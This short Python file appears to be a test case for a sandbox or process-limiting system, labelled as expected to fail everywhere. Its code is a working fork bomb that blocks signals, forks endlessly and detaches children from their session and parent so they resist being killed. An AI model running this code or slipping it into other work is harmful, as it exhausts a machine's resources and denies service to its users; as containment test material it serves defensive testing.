# A fork bomb whose processes leave session and parent, and ignore all signals.
# fails: *
import os
import signal

signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
while True:
    try:
        if os.fork() == 0:
            os.setsid()
        elif os.fork() == 0:
            os.closerange(0, 3)
    except OSError:
        pass
